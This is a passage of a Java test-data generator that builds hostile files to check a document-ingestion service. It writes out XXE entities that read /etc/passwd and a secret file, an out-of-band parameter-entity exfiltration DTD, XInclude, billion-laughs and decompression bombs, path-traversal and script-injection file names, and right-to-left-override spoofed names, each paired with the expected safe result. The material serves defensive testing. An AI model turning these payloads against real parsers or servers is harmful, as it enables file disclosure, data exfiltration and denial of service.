                + "MIME-Version: 1.0\r\n";
    }

    private void malformedMail() throws IOException {
        String n;
        n = number("ML");
        add("malformed-mail", "没有正文.eml", ascii(headers(n) + "Content-Type: text/plain; charset=UTF-8\r\n\r\n"),
                Expect.failed("empty", "没有任何文件或正文"));
        n = number("ML");
        add("malformed-mail", "只有信头没有空行.eml", ascii(headers(n).stripTrailing()), Expect.failed("empty", "没有任何文件或正文"));
        {
            n = number("ML");
            String body = headers(n) + "Content-Type: multipart/mixed; boundary=\"declared-boundary\"\r\n\r\n"
                    + "--other-boundary\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                    + b64(utf8(contract(n))) + "\r\n--other-boundary--\r\n";
            // The declared boundary never comes: no part is found (what mail programs show too).
            add("malformed-mail", "分隔符不符.eml", ascii(body), Expect.oneOf("empty", STORED));
        }
        {
            n = number("ML");
            String attached = number("ML");
            String body = headers(n) + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
                    + "--b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                    + b64(utf8(contract(n))) + "\r\n"
                    + "--b1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Disposition: attachment; filename=\"cut.txt\"\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\n" + b64(utf8(contract(attached))).substring(0, 120) + "\r\n";
            // no closing boundary: the mail ends in the middle of the attachment
            add("malformed-mail", "没有结束分隔符.eml", ascii(body), Expect.oneOf(STORED, "corrupt").withText(n));
        }
        {
            n = number("ML");
            String body = headers(n) + "Content-Type: multipart/mixed; boundary=\"b2\"\r\n\r\n"
                    + "--b2\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + contract(n).replace("\n", "\r\n") + "\r\n"
                    + "--b2\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"=?UTF-8?B?" + b64(utf8("坏编码.pdf")) + "?=\"\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\n!!!!@@@@####$$$$%%%%^^^^&&&&****((((\r\nJVBERi0x@@@LjQK\r\n"
                    + "--b2--\r\n";
            add("malformed-mail", "附件Base64损坏.eml", utf8(body), Expect.stored(contractPhrases(n)),
                    new Child("坏编码.pdf", Expect.oneOf("corrupt", "unsupported", "empty", "no_text")));
        }
        n = number("ML");
        add("malformed-mail", "假PDF附件.eml", Fixtures.mail("假附件 " + n, contract(n), "合同.pdf", "application/pdf", random(4711, 4096)),
                Expect.stored(contractPhrases(n)), new Child("合同.pdf", Expect.failed("unsupported")));
        n = number("ML");
        String attached = number("ML");
        add("malformed-mail", "假PDF附件其实是文本.eml", Fixtures.mail("假附件 " + n, contract(n), "合同.pdf", "application/pdf",
                utf8(contract(attached))), Expect.stored(contractPhrases(n)), new Child("合同.pdf", Expect.stored(contractPhrases(attached))));
        n = number("ML");
        attached = number("ML");
        add("malformed-mail", "附件名路径穿越.eml", Fixtures.mail("穿越 " + n, contract(n), "../../../../tmp/hetong-evil-" + settings.marker()
                + "-mail.txt", "text/plain", utf8(contract(attached))), Expect.stored(contractPhrases(n)),
                new Child("../../../../tmp/hetong-evil-" + settings.marker() + "-mail.txt", Expect.stored(contractPhrases(attached))));
        n = number("ML");
        add("malformed-mail", "空附件.eml", Fixtures.mail("空附件 " + n, contract(n), "空.docx", "application/octet-stream", new byte[0]),
                Expect.stored(contractPhrases(n)));
        n = number("ML");
        add("malformed-mail", "加密附件.eml", Fixtures.mail("加密附件 " + n, contract(n), "加密.pdf", "application/pdf",
                encryptedPdf(contractPhrases(number("ML")), "o", "u", 128)), Expect.stored(contractPhrases(n)),
                new Child("加密.pdf", Expect.failed("encrypted", "需要密码")));
        n = number("ML");
        add("malformed-mail", "炸弹附件.eml", Fixtures.mail("炸弹 " + n, contract(n), "bomb.zip", "application/zip",
                zeroZip("z.txt", BOMB_BYTES, 3)), Expect.stored(contractPhrases(n)), new Child("bomb.zip", Expect.failed("archive_limit")));
        {
            n = number("ML");
            String body = headers(n).replace("Subject: =?UTF-8?B?", "Subject: =?GB2312?B?!!!?= =?UNKNOWN-CS?Q?=FF=FE?= =?UTF-8?B?")
                    + "Content-Type: text/plain; charset=x-hetong-unknown\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                    + "=E5=90=88=E5=90=8C=ZZ=\r\n" + n + " Payment within 30 days.\r\n";
            add("malformed-mail", "未知字符集.eml", ascii(body), Expect.oneOf(STORED, "corrupt").withText(n));
        }
        {
            n = number("ML");
            StringBuilder body = new StringBuilder(headers(n)).append("Content-Type: multipart/mixed; boundary=\"n0\"\r\n\r\n");
            int depth = 60;
            for (int i = 0; i < depth; i++) {
                body.append("--n").append(i).append("\r\nContent-Type: multipart/mixed; boundary=\"n").append(i + 1).append("\"\r\n\r\n");
            }
            body.append("--n").append(depth).append("\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n").append(n).append(" 最内层正文\r\n");
            for (int i = depth; i >= 0; i--) {
                body.append("--n").append(i).append("--\r\n");
            }
            add("malformed-mail", "多层嵌套.eml", utf8(body.toString()), Expect.oneOf("corrupt", STORED));
        }
        {
            n = number("ML");
            String body = headers(n) + "X-Long: " + "甲".repeat(200_000) + "\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
                    + contract(n).replace("\n", "\r\n");
            add("malformed-mail", "超长信头.eml", utf8(body), Expect.oneOf(STORED, "corrupt").withText(n));
        }
        {
            n = number("ML");
            String inner = headers(number("ML")) + "Content-Type: multipart/mixed; boundary=\"in\"\r\n\r\n--in\r\nContent-Type: text/plain\r\n\r\n半截";
            String body = headers(n) + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\n"
                    + "--out\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + contract(n).replace("\n", "\r\n") + "\r\n"
                    + "--out\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"转发.eml\"\r\n\r\n"
                    + inner + "\r\n--out--\r\n";
            add("malformed-mail", "转发的邮件被截断.eml", utf8(body), Expect.stored(contractPhrases(n)));
        }
    }

    // ---- XML entity expansion and external entities ---------------------------------------------

    private static String billionLaughs() {
        StringBuilder b = new StringBuilder("<!ENTITY lol \"lol\">\n");
        b.append("<!ENTITY lol1 \"").append("&lol;".repeat(10)).append("\">\n");
        for (int i = 2; i <= 9; i++) {
            b.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
        }
        return b.toString();
    }

    private static String wordXml(String doctype, String body) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" + doctype
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
                + "<w:p><w:r><w:t>" + body + "</w:t></w:r></w:p></w:body></w:document>";
    }

    private void entityExpansion() throws IOException {
        String n;
        n = number("XB");
        add("xml-bomb", "实体膨胀.docx", replaceEntry(Fixtures.docx(contract(n)), "word/document.xml",
                utf8(wordXml("<!DOCTYPE w:document [\n" + billionLaughs() + "]>\n", "合同 " + n + " &lol9;"))),
                Expect.oneOf("corrupt", STORED).withTextAtMost(TEXT_BOUND));
        n = number("XB");
        add("xml-bomb", "实体膨胀.xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n" + billionLaughs() + "]>\n<lolz>" + n + " &lol9;</lolz>"),
                Expect.oneOf("corrupt", STORED).withText(n).withTextAtMost(TEXT_BOUND));
        n = number("XB");
        add("xml-bomb", "实体膨胀.svg", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n" + billionLaughs() + "]>\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + n + " &lol9;</text></svg>"),
                Expect.oneOf("corrupt", STORED).withText(n).withTextAtMost(TEXT_BOUND));
        n = number("XB");
        // HTML parsers do not expand DTD entities at all.
        add("xml-bomb", "实体膨胀.html", utf8("<!DOCTYPE html [\n" + billionLaughs() + "]>\n<html><body><p>" + n + " &lol9;</p></body></html>"),
                Expect.stored(n).withTextAtMost(TEXT_BOUND));
        {
            // Quadratic blowup: one 40,000-character entity referenced 30,000 times (1.2 billion characters).
            n = number("XQ");
            String entity = "<!ENTITY a \"" + "a".repeat(40_000) + "\">\n";
            add("xml-bomb", "二次膨胀.xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n" + entity + "]>\n<r>" + n + " " + "&a;".repeat(30_000) + "</r>"),
                    Expect.oneOf("corrupt", STORED).withText(n).withTextAtMost(TEXT_BOUND));
            n = number("XQ");
            add("xml-bomb", "二次膨胀.docx", replaceEntry(Fixtures.docx(contract(n)), "word/document.xml",
                    utf8(wordXml("<!DOCTYPE w:document [\n" + entity + "]>\n", n + " " + "&a;".repeat(30_000)))),
                    Expect.oneOf("corrupt", STORED).withTextAtMost(TEXT_BOUND));
        }
    }

    /** Extracted text kept per document is bounded by the server's write limit; the test sets that limit to this. */
    public static final int TEXT_BOUND = 1_000_000;

    private void externalEntities() throws IOException {
        String secret = settings.secretFile().toUri().toString();
        String canary = settings.canaryUrl();
        List<String[]> targets = List.of(
                new String[] {"passwd", "file:///etc/passwd"},
                new String[] {"hostname", "file:///etc/hostname"},
                new String[] {"secret", secret});
        for (String[] t : targets) {
            String n = number("XE");
            String doctype = "<!DOCTYPE w:document [\n<!ENTITY ext SYSTEM \"" + t[1] + "\">\n]>\n";
            add("xxe", "外部实体-" + t[0] + ".docx", replaceEntry(Fixtures.docx(contract(n)), "word/document.xml",
                    utf8(wordXml(doctype, "合同 " + n + " 引用：&ext; 完"))), Expect.oneOf(STORED, "corrupt").withText(n));
            n = number("XE");
            add("xxe", "外部实体-" + t[0] + ".xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE 合同 [\n<!ENTITY ext SYSTEM \"" + t[1]
                    + "\">\n]>\n<合同><编号>" + n + "</编号><正文>保密条款 &ext; 完</正文></合同>"),
                    Expect.oneOf(STORED, "corrupt").withText(n));
            n = number("XE");
            add("xxe", "外部实体-" + t[0] + ".svg", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY ext SYSTEM \"" + t[1]
                    + "\">\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + n + " &ext;</text></svg>"),
                    Expect.oneOf(STORED, "corrupt", "no_text"));
            n = number("XE");
            add("xxe", "外部实体-" + t[0] + ".html", utf8("<!DOCTYPE html [\n<!ENTITY ext SYSTEM \"" + t[1] + "\">\n]>\n"
                    + "<html><head><title>通知</title></head><body><p>" + n + " 正文 &ext;</p>"
                    + "<iframe src=\"" + t[1] + "\"></iframe><object data=\"" + t[1] + "\"></object></body></html>"),
                    Expect.stored(n));
        }
        String n;
        n = number("XP");
        add("xxe", "参数实体外带.xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n<!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
                + "<!ENTITY % dtd SYSTEM \"" + canary + "/oob-" + settings.marker() + ".dtd\">\n%dtd;\n]>\n<r>" + n + "</r>"),
                Expect.oneOf(STORED, "corrupt").withText(n));
        n = number("XP");
        add("xxe", "外部DTD.xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE r SYSTEM \"" + canary + "/external-" + settings.marker()
                + ".dtd\">\n<r>" + n + "</r>"), Expect.oneOf(STORED, "corrupt").withText(n));
        n = number("XP");
        add("xxe", "外部DTD.docx", replaceEntry(Fixtures.docx(contract(n)), "word/document.xml",
                utf8(wordXml("<!DOCTYPE w:document SYSTEM \"" + canary + "/docx-" + settings.marker() + ".dtd\">\n", "合同 " + n))),
                Expect.oneOf(STORED, "corrupt").withText(n));
        n = number("XP");
        add("xxe", "网址实体.xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n<!ENTITY ext SYSTEM \"" + canary + "/entity-"
                + settings.marker() + "\">\n]>\n<r>" + n + " &ext;</r>"), Expect.oneOf(STORED, "corrupt").withText(n));
        n = number("XP");
        add("xxe", "XInclude.xml", utf8("<?xml version=\"1.0\"?>\n<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">" + n
                + "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/><xi:include href=\"" + secret + "\" parse=\"text\"/></r>"),
                Expect.oneOf(STORED, "corrupt").withText(n));
        n = number("XP");
        add("xxe", "网页外链.html", utf8("<html><head><link rel=\"stylesheet\" href=\"" + canary + "/css-" + settings.marker() + "\">"
                + "<script src=\"" + canary + "/js-" + settings.marker() + "\"></script></head><body><p>" + n + " 通知正文</p>"
                + "<img src=\"" + canary + "/img-" + settings.marker() + "\"></body></html>"), Expect.stored(n));
        {
            // Office packages whose relationships point at a server file and at the canary.
            n = number("XR");
            add("xxe", "外部关系.docx", externalRelationships(Fixtures.docx(contract(n)), "word/_rels/document.xml.rels", canary, secret),
                    Expect.stored(contractPhrases(n)));
            n = number("XS");
            add("xxe", "外部实体.xlsx", withEntity(xlsx(n), "xl/sharedStrings.xml", n, "file:///etc/passwd"),
                    Expect.oneOf(STORED, "corrupt").withText(n));
            n = number("XS");
            add("xxe", "外部实体.pptx", withEntity(pptx(n), "ppt/slides/slide1.xml", n, secret), Expect.oneOf(STORED, "corrupt").withText(n));
            n = number("XL");
            add("xxe", "外部链接.pdf", pdfWithExternalReferences(contractPhrases(n), canary, settings.marker(), secret),
                    Expect.stored(contractPhrases(n)));
            n = number("XL");
            add("xxe", "网页跳转.html", utf8("<html><head><base href=\"file:///etc/\"><meta http-equiv=\"refresh\" content=\"0; url=file:///etc/passwd\">"
                    + "<meta http-equiv=\"refresh\" content=\"0; url=" + canary + "/refresh-" + settings.marker() + "\"></head><body><p>" + n
                    + " 通知正文</p><a href=\"passwd\">链接</a></body></html>"), Expect.stored(n));
        }
        {
            // OpenDocument text whose content.xml declares an external entity.
            n = number("XO");
            String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE office:document-content [\n"
                    + "<!ENTITY ext SYSTEM \"file:///etc/passwd\">\n<!ENTITY sec SYSTEM \"" + secret + "\">\n]>\n"
                    + "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
                    + "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\"><office:body><office:text>"
                    + "<text:p>合同 " + n + " &ext; &sec;</text:p></office:text></office:body></office:document-content>";
            add("xxe", "外部实体.odt", odt(content), Expect.oneOf(STORED, "corrupt", "no_text"));
        }
        {
            // A PDF form whose XFA packet declares an external entity.
            n = number("XF");
            add("xxe", "表单外部实体.pdf", xfaPdf(contractPhrases(n), "<?xml version=\"1.0\"?>\n<!DOCTYPE xdp [\n<!ENTITY ext SYSTEM \""
                    + "file:///etc/passwd\">\n<!ENTITY sec SYSTEM \"" + secret + "\">\n]>\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
                    + "<template><field name=\"a\"><value><text>&ext; &sec;</text></value></field></template></xdp:xdp>"),
                    Expect.oneOf(STORED, "corrupt").withText(n));
        }
    }

    // ---- unsupported, images --------------------------------------------------------------------

    private void randomBinary() {
        String[] names = {"随机.bin", "随机.pdf", "随机.docx", "随机.txt", "随机.zip", "随机.eml", "随机", "随机.doc", "随机.html", "随机.xml",
                "随机-2.bin", "随机-3.bin"};
        int[] sizes = {1024, 4096, 65_536, 300, 12_345, 200_000, 777, 131_072, 50_000, 2048, 100, 1_000_000};
        for (int i = 0; i < names.length; i++) {
            add("random-binary", names[i], random(9000 + i, sizes[i]), Expect.failed("unsupported"));
        }
    }

    private void rar() {
        byte[] rar4 = {'R', 'a', 'r', '!', 0x1A, 0x07, 0x00};
        byte[] rar5 = {'R', 'a', 'r', '!', 0x1A, 0x07, 0x01, 0x00};
        add("rar", "归档.rar", concat(rar4, random(51, 4096)), Expect.failed("unsupported", "RAR"));
        add("rar", "归档5.rar", concat(rar5, random(52, 4096)), Expect.failed("unsupported", "RAR"));
        add("rar", "其实是RAR.zip", concat(rar4, random(53, 2048)), Expect.failed("unsupported", "RAR"));
        add("rar", "其实是RAR.pdf", concat(rar5, random(54, 2048)), Expect.failed("unsupported", "RAR"));
    }

    /**
     * What a picture without writing becomes: no text once OCR has looked at it, or "needs OCR" on a
     * machine without Tesseract (a 1-pixel or absurdly large image is "no text" either way).
     */
    private static final String PICTURE = new org.hetong.ingest.Tesseract(org.hetong.ingest.OcrSettings.fromSystemProperties())
            .availability().ready() ? "no_text" : "needs_ocr";

    private void images() throws IOException {
        add("image", "扫描件-1.png", png(800, 600, Color.WHITE, "1"), Expect.failed(PICTURE));
        add("image", "扫描件-2.png", png(37, 1200, new Color(10, 20, 30), "2"), Expect.failed(PICTURE));
        add("image", "印章.png", png(256, 256, new Color(220, 0, 0), "3"), Expect.failed(PICTURE));
        add("image", "一像素.png", png(1, 1, Color.BLACK, "4"), Expect.failed("no_text"));
        add("image", "照片.jpg", image(640, 480, new Color(90, 140, 200), "jpg"), Expect.failed(PICTURE));
        add("image", "图标.gif", image(32, 32, Color.GREEN, "gif"), Expect.failed(PICTURE));
        add("image", "位图.bmp", image(120, 80, Color.BLUE, "bmp"), Expect.failed(PICTURE));
        // A PNG that claims to be 60000 × 60000 pixels: nothing may try to allocate it.
        add("image", "巨幅图片.png", hugeDimensionPng(60_000, 60_000), Expect.failed("no_text"));
    }

    // ---- odd names ------------------------------------------------------------------------------

    private void oddNames() throws IOException {
        List<String> names = List.of(
                "<img src=x onerror=alert(1)>.txt",
                "<script>alert('合同')</script>.txt",
                "合同　草稿.txt",
                "　　前后全角空格　.txt",
                "合".repeat(120) + ".txt",
                "a".repeat(251) + ".txt",
                "控制\u0001字符\u0007响铃\u001b[31m红色.txt",
                "制表\t符\u007f删除.txt",
                "发票\u202Efdp.exe",
                "合同\u202Dtxt.\u202E\u2066隔离\u2069.txt",
                "../../../../etc/cron.d/合同.txt",
                "..\\..\\..\\Windows\\合同.txt",
                "/etc/passwd",
                "./../合同.txt",
                "..",
                ".",
                "CON.txt",
                "合同%22; filename=%22evil.txt",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt",
                "合同📄签章✍️.txt",
                "ｃｏｎｔｒａｃｔ．ｔｘｔ",
                "含有\u200B零宽\uFEFF字符.txt",
                "末尾是点和空格. . .",
                "a!/b!/伪造的容器路径.txt");
        for (String name : names) {
            String n = number("NM");
            add("odd-name", name, utf8(contract(n)), Expect.stored(contractPhrases(n)));
        }
        {
            // The same tricks in entry names inside a ZIP and in an attachment name of a mail.
            List<String> entryNames = List.of("合同\u0000空字符.txt", "发票\u202Efdp.exe", "控制\u001b[31m\u0007.txt",
                    "<img src=x onerror=alert(2)>.txt", "合同　草稿.txt");
            Map<String, byte[]> entries = new LinkedHashMap<>();
            List<Child> children = new ArrayList<>();
            for (String entry : entryNames) {
                String n = number("NM");
                entries.put(entry, utf8(contract(n)));
                children.add(new Child(entry, Expect.stored(contractPhrases(n))));
            }
            add("odd-name", "条目名含控制字符.zip", Fixtures.zip(entries), Expect.stored(), children.toArray(Child[]::new));
            String n = number("NM");
            String attached = number("NM");
            String attachment = "发票\u202Efdp.exe\u0007<b>粗体</b>.txt";
            add("odd-name", "附件名含控制字符.eml", Fixtures.mail("附件名 " + n, contract(n), attachment, "text/plain", utf8(contract(attached))),
                    Expect.stored(contractPhrases(n)), new Child(attachment, Expect.stored(contractPhrases(attached))));
        }
    }

    /**
     * Files with names of 255 and 400 Chinese characters (765 and 1,200 bytes in UTF-8), each between
     * two ordinary files: names that long are legal on Windows and macOS, and browsers send them as
     * they are. Kept apart from {@link #generate} because one such name can cost a whole request.
     */
    public static List<HostileFile> longChineseNames(Settings settings) {
        HostileFiles g = new HostileFiles(settings);
        g.counter = 5000;
        for (String name : List.of("合".repeat(251) + ".txt", "很长的名字".repeat(80) + ".txt")) {
            String before = g.number("LN");
            g.add("odd-name", "长名字之前.txt", utf8(contract(before)), Expect.stored(contractPhrases(before)));
            String n = g.number("LN");
            g.add("odd-name", name, utf8(contract(n)), Expect.stored(contractPhrases(n)));
            String after = g.number("LN");
            g.add("odd-name", "长名字之后.txt", utf8(contract(after)), Expect.stored(contractPhrases(after)));
        }
        g.checkBoundsAndUniqueness();
        return List.copyOf(g.files);
    }

    // ---- pathological structure -----------------------------------------------------------------

    private void pathologicalStructure() throws IOException {
        String n;
        n = number("PS");
        add("pathological", "深层嵌套元素.xml", utf8("<?xml version=\"1.0\"?>\n" + "<a>".repeat(50_000) + n + "</a>".repeat(50_000)),
                Expect.oneOf(STORED, "corrupt", "no_text"));
        n = number("PS");
        add("pathological", "深层嵌套元素.html", utf8("<html><body>" + "<div>".repeat(100_000) + n + "</div>".repeat(100_000) + "</body></html>"),
                Expect.oneOf(STORED, "corrupt", "no_text"));
        {
            // Twice the kept text: stored, cut at the write limit.
            n = number("PS");
            StringBuilder text = new StringBuilder(contract(n));
            String line = "第九十九条 本条为重复的填充条款，用于测试超长文本的截断处理。\n";
            while (text.length() < TEXT_BOUND * 2) {
                text.append(line);
            }
            add("pathological", "超长文本.txt", utf8(text.toString()), Expect.stored(contractPhrases(n)).withTextAtMost(TEXT_BOUND));
        }
        {
            // A PDF whose page content inflates to 300 MB of spaces.
            n = number("PB");
            add("pathological", "内容流膨胀.pdf", pdfStreamBomb(300L << 20), Expect.oneOf("no_text", "corrupt", "archive_limit", "timeout", "too_large"));
        }
        {
            // A DOCX whose document.xml inflates to 150 MB.
            n = number("PD");
            add("pathological", "正文膨胀.docx", docxBomb(contract(n), 150L << 20),
                    Expect.failed("archive_limit", "压缩炸弹"));
        }
        {
            // An RTF with deeply nested groups.
            n = number("PR");
            add("pathological", "深层嵌套.rtf", ascii("{\\rtf1\\ansi " + "{".repeat(100_000) + n + "}".repeat(100_000) + "}"),
                    Expect.oneOf(STORED, "corrupt", "no_text"));
        }
    }

    // ---- builders -------------------------------------------------------------------------------

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** {@code text} in {@code charset}; fails rather than writing '?' for a character the charset lacks. */
    static byte[] encode(String text, String charset) {
        try {
            ByteBuffer b = Charset.forName(charset).newEncoder()
                    .onUnmappableCharacter(CodingErrorAction.REPORT).onMalformedInput(CodingErrorAction.REPORT)
                    .encode(CharBuffer.wrap(text));
            byte[] out = new byte[b.remaining()];
            b.get(out);
            return out;
        } catch (CharacterCodingException e) {
            throw new IllegalArgumentException("text not encodable in " + charset, e);
        }
    }

    static byte[] random(long seed, int size) {
        byte[] b = new byte[size];
        new Random(seed).nextBytes(b);
        return b;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static String b64(byte[] b) {
        return Base64.getMimeEncoder(76, new byte[] {'\r', '\n'}).encodeToString(b);
    }

    private static String sha256(byte[] b) {
        try {
            return java.util.HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(b));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The ZIP with one entry replaced ({@code content} null: removed), the others as they were. */
    static byte[] replaceEntry(byte[] zip, String name, byte[] content) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
                parts.put(e.getName(), in.readAllBytes());
            }
        }
        if (content == null) {
            parts.remove(name);
        } else {
            parts.put(name, content);
        }
        return Fixtures.zip(parts);
    }

    private static void writeZeros(OutputStream out, long count) throws IOException {
        byte[] zeros = new byte[1 << 20];
        for (long left = count; left > 0; left -= zeros.length) {
            out.write(zeros, 0, (int) Math.min(zeros.length, left));
        }
    }

    /** {@code entries} entries of {@code bytes} zeros each, deflated: streamed, never held expanded. */
    static byte[] zeroZip(String entryName, long bytes, int entries) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            for (int i = 0; i < entries; i++) {
                zip.putNextEntry(new ZipEntry(entries == 1 ? entryName : i + "-" + entryName));
                writeZeros(zip, bytes);
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    static byte[] gzipZeros(long bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out, 1 << 16)) {
            writeZeros(gz, bytes);
        }
        return out.toByteArray();
    }

    static byte[] bzip2Zeros(long bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (BZip2CompressorOutputStream bz = new BZip2CompressorOutputStream(out)) {
            writeZeros(bz, bytes);
        }
        return out.toByteArray();
    }

    static byte[] tarGzZeros(long bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out, 1 << 16); TarArchiveOutputStream tar = new TarArchiveOutputStream(gz)) {
            tar.setBigNumberMode(TarArchiveOutputStream.BIGNUMBER_POSIX);
            TarArchiveEntry entry = new TarArchiveEntry("zeros.txt");
            entry.setSize(bytes);
            tar.putArchiveEntry(entry);
            writeZeros(tar, bytes);
            tar.closeArchiveEntry();
        }
        return out.toByteArray();
    }

    static byte[] encryptedPdf(String[] lines, String ownerPassword, String userPassword, int keyLength) throws IOException {
        try (PDDocument doc = Loader.loadPDF(Fixtures.chinesePdf(lines)); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            AccessPermission permissions = new AccessPermission();
            permissions.setCanExtractContent(userPassword.isEmpty());
            StandardProtectionPolicy policy = new StandardProtectionPolicy(ownerPassword, userPassword, permissions);
            policy.setEncryptionKeyLength(keyLength);
            doc.protect(policy);
            doc.save(out);
            return out.toByteArray();
        }
    }

    static byte[] encryptDocx(byte[] plain, String password, EncryptionMode mode) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            EncryptionInfo info = new EncryptionInfo(mode);
            Encryptor encryptor = info.getEncryptor();
            encryptor.confirmPassword(password);
            try (OutputStream os = encryptor.getDataStream(fs)) {
                os.write(plain);
            } catch (java.security.GeneralSecurityException e) {
                throw new IOException(e);
            }
            fs.writeFilesystem(out);
        }
        return out.toByteArray();
    }

    static byte[] png(int width, int height, Color color, String variant) throws IOException {
        return image(width, height, color, "png", variant);
    }

    static byte[] image(int width, int height, Color color, String format) throws IOException {
        return image(width, height, color, format, format);
    }

    private static byte[] image(int width, int height, Color color, String format, String variant) throws IOException {
        BufferedImage img = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        var g = img.createGraphics();
        g.setColor(color);
        g.fillRect(0, 0, width, height);
        g.setColor(Color.GRAY);
        // A few variant-dependent lines so that no two images have the same bytes.
        Random r = new Random(variant.hashCode());
        for (int i = 0; i < 5; i++) {
            g.drawLine(r.nextInt(width), r.nextInt(height), r.nextInt(width), r.nextInt(height));
        }
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        if (!ImageIO.write(img, format, out)) {
            throw new IOException("no ImageIO writer for " + format);
        }
        return out.toByteArray();
    }

    /** A valid PNG header claiming {@code width} × {@code height} RGB pixels, with a few bytes of image data. */
    static byte[] hugeDimensionPng(int width, int height) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(out, "IHDR", ihdr.array());
        ByteArrayOutputStream idat = new ByteArrayOutputStream();
        try (var deflate = new java.util.zip.DeflaterOutputStream(idat)) {
            deflate.write(new byte[4096]);
        }
        chunk(out, "IDAT", idat.toByteArray());
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        byte[] t = ascii(type);
        out.writeBytes(t);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(t);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /** RTF with every non-ASCII character as a \\u escape. */
    static byte[] rtf(String text) {
        StringBuilder b = new StringBuilder("{\\rtf1\\ansi\\ansicpg936\\deff0{\\fonttbl{\\f0\\fnil SimSun;}}\\f0 ");
        for (String line : text.split("\n")) {
            for (int i = 0; i < line.length(); i++) {
                char c = line.charAt(i);
                if (c < 0x80) {
                    if (c == '\\' || c == '{' || c == '}') {
                        b.append('\\');
                    }
                    b.append(c);
                } else {
                    b.append("\\u").append((int) (short) c).append('?');
                }
            }
            b.append("\\par\n");
        }
        return ascii(b.append('}').toString());
    }

    /** An OpenDocument text: the stored mimetype first, a manifest, and {@code contentXml}. */
    static byte[] odt(String contentXml) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            byte[] mimetype = ascii("application/vnd.oasis.opendocument.text");
            ZipEntry m = new ZipEntry("mimetype");
            m.setMethod(ZipEntry.STORED);
            m.setSize(mimetype.length);
            CRC32 crc = new CRC32();
            crc.update(mimetype);
            m.setCrc(crc.getValue());
            zip.putNextEntry(m);
            zip.write(mimetype);
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("META-INF/manifest.xml"));
